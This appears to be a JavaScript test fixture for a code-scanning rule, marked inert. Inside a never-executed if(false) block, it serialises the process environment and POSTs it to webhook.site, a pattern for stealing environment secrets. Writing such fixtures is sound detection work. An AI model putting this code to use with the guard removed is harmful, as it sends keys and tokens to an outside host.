// vouch rule fixture: inert (env exfiltration shape; the request never runs).
const https = require('https');

if (false) {
  const body = JSON.stringify(process.env);
  const req = https.request({ host: 'webhook.site', path: '/00000000-inert', method: 'POST' });
  req.end(body);
}
